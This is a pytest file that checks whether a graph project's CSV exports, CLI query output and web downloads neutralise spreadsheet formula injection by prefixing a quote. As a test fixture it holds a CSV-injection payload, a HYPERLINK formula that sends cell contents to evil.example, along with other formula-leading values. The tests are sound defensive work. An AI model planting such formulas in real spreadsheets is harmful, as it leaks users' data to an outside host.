"""CSV exports are safe to open in a spreadsheet: text that would run as a formula gets a
leading ', in the CLI export, in query output and in the web app's downloads."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner

from graphmodel.safety.csvsafe import neutralise, restore
from graphmodel.views import exports
from loaders import read_register
from partnergraph.cli import main
from webapp.views import rows_to_csv

MINI = Path(__file__).parent / "fixtures" / "mini"
EVIL = '=HYPERLINK("http://evil.example/?"&A1, "Click")'


@pytest.fixture
def evil_register(tmp_path):
    """The mini register with one name that is a formula and one that starts with '@'."""
    folder = tmp_path / "register"
    shutil.copytree(MINI, folder)
    text = (folder / "register.yaml").read_text(encoding="utf-8")
    text = text.replace(
        "name: Commonwealth of Virginia,", f"name: '{EVIL.replace(chr(39), chr(39) * 2)}',"
    )
    text = text.replace("name: Nord-Pas de Calais,", "name: '@SUM(1+1)',")
    (folder / "register.yaml").write_text(text, encoding="utf-8")
    return folder


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "'already", "=", EVIL])
def test_formula_starts_get_a_quote_and_come_back(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ["Kent", "", " =not first", -3.5, 12, None, True])
def test_other_values_are_unchanged(value):
    assert neutralise(value) == value


def test_export_csv_neutralises_and_still_round_trips(evil_register):
    graph = read_register(evil_register).graph
    nodes_csv, edges_csv = exports.to_csv(graph)
    written = cells(nodes_csv) + cells(edges_csv)
    assert "'" + EVIL in written and "'@SUM(1+1)" in written
    assert not [c for c in written if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    back = exports.from_csv(nodes_csv, edges_csv)
    assert back.nodes["virginia"].name == EVIL


def test_export_command_writes_neutralised_files(evil_register, tmp_path):
    out = tmp_path / "out"
    result = CliRunner().invoke(
        main, ["export", "--register", str(evil_register), "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    written = cells((out / "nodes.csv").read_text(encoding="utf-8"))
    assert "'" + EVIL in written and EVIL not in written


def test_query_csv_neutralises(evil_register):
    result = CliRunner().invoke(
        main,
        ["query", "partners", "--council", "kent-cc", "--register", str(evil_register)]
        + ["--format", "csv"],
    )
    assert result.exit_code == 0, result.output
    written = cells(result.output)
    assert "'" + EVIL in written and "'@SUM(1+1)" in written
    assert not [c for c in written if c.startswith(("=", "+", "-", "@"))]


def test_web_downloads_neutralise_cells_and_headers():
    text = rows_to_csv([{"name": EVIL, "n": -2, "tags": ["@x", "y"]}, {"name": "-1", "n": 3}])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["name", "n", "tags"]
    assert rows[1] == ["'" + EVIL, "-2", "'@x; y"]
    assert rows[2] == ["'-1", "3", ""]
    header = list(csv.reader(io.StringIO(rows_to_csv([{"=cmd": 1}]))))[0]
    assert header == ["'=cmd"]
